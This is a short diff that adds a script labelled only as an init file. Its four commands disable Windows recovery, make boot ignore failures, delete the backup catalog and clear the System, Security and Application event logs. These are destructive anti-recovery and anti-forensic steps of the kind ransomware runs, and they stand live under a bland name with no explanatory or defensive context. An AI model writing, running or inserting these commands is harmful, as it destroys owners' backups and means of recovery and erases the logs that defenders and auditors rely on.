@@ -1,0 +1,5 @@
+# init 4716 v0
+bcdedit /set {default} recoveryenabled No
+bcdedit /set {default} bootstatuspolicy ignoreallfailures
+wbadmin delete catalog -quiet
+wevtutil cl System; wevtutil cl Security; wevtutil cl Application
